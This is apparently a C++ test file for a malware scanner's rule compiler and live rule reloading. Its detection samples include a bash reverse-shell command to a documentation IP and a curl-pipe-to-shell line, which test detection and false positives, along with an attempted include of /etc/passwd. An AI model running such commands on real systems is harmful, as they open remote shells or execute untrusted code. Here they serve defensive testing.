#include "companions/live_sample_rules.hpp"

#include "foundation/property.hpp"
#include "support/testing.hpp"
#include "tests/companions/samples.hpp"
#include "tests/companions/shipped_rules.hpp"

namespace {

std::string nameOf(const SampleRules& rules, const std::string& sample) {
  const auto finding = rules.scan(sample.data(), sample.size(), std::chrono::seconds(60), nullptr);
  return finding ? finding->verdict + " " + finding->infectionName : "";
}

std::string rule(const std::string& name, const std::string& meta, const std::string& text) {
  return "rule " + name + " { meta: " + meta + " strings: $a = \"" + text + "\" condition: $a }\n";
}

TEST(SampleRules, AFileWithAMistakeIsLeftOutByNameAndOfTheOthersTheWorstMatchCounts) {
  const std::string bad = "verdict = \"malicious\"";
  std::vector<RejectedRules> rejected;
  const auto rules =
      SampleRules::compile({{"grammar.yar", "rule broken { nonsense }"},
                            {"later.yar", "\n\nrule also_broken { nonsense }"},
                            {"good.yar", rule("same_name", bad, "abc")},
                            {"praise.yar", "// rule praises\n\nprivate " + rule("p", "x = 1", "x") +
                                               rule("praises", "verdict = \"known_clean\"", "abc")},
                            {"include.yar", "include \"/etc/passwd\"\n" + rule("reads", bad, "abc")},
                            {"name.yar", rule("named", bad + " name = \"a\\nb\"", "abc")},
                            {"also_good.yar", rule("same_name", "verdict = \"pu\" name = \"P\"", "xyz") +
                                                  rule("third", "verdict = \"unwanted\"", "xy")}},
                           &rejected);
  std::vector<std::string> reasons;
  for (const auto& [name, reason] : rejected) reasons.push_back(name + ": " + reason);
  EXPECT_THAT(
      reasons,
      testing::UnorderedElementsAre(
          testing::StartsWith("grammar.yar: line 1: "), testing::StartsWith("later.yar: line 3: "),
          testing::StartsWith("include.yar: line 1: "),
          "praise.yar: line 4: rule praises says no verdict of malicious, unwanted or pu",
          "name.yar: line 1: rule named has a name of more than 255 bytes, with control characters or not "
          "UTF-8"));
  EXPECT_EQ(nameOf(*rules, "xyz abc"), "malicious same_name");
  EXPECT_EQ(nameOf(*rules, "xyz"), "unwanted third");
  EXPECT_EQ(nameOf(*rules, ""), "");
}

TEST(SampleRules, TheShippedOnesTellBadFilesFromTheirInnocentRelatives) {
  const auto rules = shippedRules();
  const std::string text = standardTestFile();
  const std::pair<std::string, std::string> samples[] = {
      {text, "malicious EICAR-Test-File"},
      {text + std::string(59, ' ') + "\x1a", "malicious EICAR-Test-File"},
      {text + std::string(61, ' '), ""},
      {"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "malicious Backdoor.Script.ReverseShell"},
      {"Attackers run bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", ""},
      {"#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n", ""},
  };
  for (const auto& [sample, finding] : samples) EXPECT_EQ(nameOf(*rules, sample), finding) << sample;
  for (const char* path : {"/bin/bash", "/usr/bin/perl", "/usr/bin/dpkg", "/proc/self/exe"}) {
    const std::string program = contentOf(path);
    EXPECT_FALSE(program.empty()) << path;
    EXPECT_EQ(nameOf(*rules, program), "") << path;
  }
}

class LiveRules : public RecordedTest {
 protected:
  // What the rules in use find, as soon as they find it.
  bool comesToFind(const std::string& sample, const std::string& finding) const {
    return eventually([&] { return nameOf(*rules_.get(), sample) == finding; });
  }

  const std::string bad_ = "verdict = \"malicious\"";
  std::atomic<int> changes_ = 0;
  Property<std::shared_ptr<const SampleRules>> rules_;
};

TEST_F(LiveRules, AnEditIsFollowedAndOfWhatCannotBeReadOrIsBrokenWhatItSaidBeforeStays) {
  // File systems take the time of the last tick.
  const std::int64_t start = Date::now().nanosecondsSince1970 / 1'000'000'000 - 1;
  folder.write("rules/a.yar", rule("first", bad_, "abc"));
  folder.write("rules/broken.yar", "rule never { condition: }");
  for (const char* old : {"rules/a.yar", "rules/broken.yar", "rules"})
    std::filesystem::last_write_time(folder.path(old),
                                     std::chrono::file_clock::from_sys(std::chrono::sys_seconds()));
  LiveSampleRules live(folder.path("rules"), [&](auto rules, std::int64_t changed) {
    EXPECT_GE(changed, start) << "whatever time the files bring with them";
    ++changes_;
    rules_.set(std::move(rules));
  });
  EXPECT_EQ(nameOf(*rules_.get(), "abc"), "malicious first") << "at once";
  folder.write("rules/a.yar", rule("second", bad_, "abc"));
  EXPECT_TRUE(comesToFind("abc", "malicious second"));
  const int changesBefore = changes_;
  folder.write("rules/a.yar", "\n\nrule second { nonsense }");
  EXPECT_TRUE(eventually([&] { return recorder.hasError("a.yar had before stay in use"); }));
  EXPECT_TRUE(recorder.hasError("a.yar are left out: line 3: "));
  folder.write("rules/b.yara", rule("other", bad_, "xyz"));
  EXPECT_TRUE(comesToFind("xyz", "malicious other"));
  EXPECT_EQ(changes_, changesBefore + 1) << "a broken file changes nothing";
  EXPECT_EQ(nameOf(*rules_.get(), "abc"), "malicious second");

  const auto complaints = [&] {
    const auto lines = recorder.lines();
    return std::count_if(lines.begin(), lines.end(), [](const LogLine& line) {
      return line.message.find("b.yara are left out: not a regular file") != std::string::npos ||
             line.message.find("b.yara had before stay in use") != std::string::npos;
    });
  };
  folder.write("rules/b.yara", std::string(SampleRules::kMaximumFileSize + 1, ' '));
  EXPECT_TRUE(eventually([&] { return complaints() == 2; }));
  folder.write("rules/c.yar", rule("later", bad_, "uvw"));
  EXPECT_TRUE(comesToFind("uvw", "malicious later"));
  EXPECT_EQ(nameOf(*rules_.get(), "xyz"), "malicious other");
  EXPECT_EQ(complaints(), 2) << "once, though the folder was looked at again";
  folder.write("rules/b.yara", rule("other", bad_, "xyz"));
  const int changes = changes_;
  std::filesystem::rename(folder.path("rules"), folder.path("away"));
  EXPECT_TRUE(eventually([&] { return recorder.hasError("cannot be read: No such file or directory"); }));
  EXPECT_EQ(nameOf(*rules_.get(), "xyz"), "malicious other");
  std::filesystem::remove(folder.path("away/c.yar"));
  std::filesystem::rename(folder.path("away"), folder.path("rules"));
  EXPECT_TRUE(comesToFind("uvw", ""));
  EXPECT_EQ(changes_, changes + 1) << "a folder that is gone changes nothing";
  for (const char* file : {"rules/a.yar", "rules/b.yara"}) std::filesystem::remove(folder.path(file));
  EXPECT_TRUE(comesToFind("xyz", ""));
  EXPECT_TRUE(recorder.hasError("There are no sample rules in "));
}

TEST_F(LiveRules, AFolderThatIsNotThereYetWithdrawsNothingAndIsFollowedWhenItComes) {
  const LiveSampleRules live(folder.path("rules"), [&](auto rules, std::int64_t) {
    ++changes_;
    rules_.set(std::move(rules));
  });
  EXPECT_EQ(changes_, 0);
  EXPECT_TRUE(recorder.hasError("cannot be read: No such file or directory"));
  folder.write("rules/a.yar", rule("first", bad_, "abc"));
  EXPECT_TRUE(eventually([&] { return changes_ > 0 && nameOf(*rules_.get(), "abc") == "malicious first"; }));
}

}  // namespace
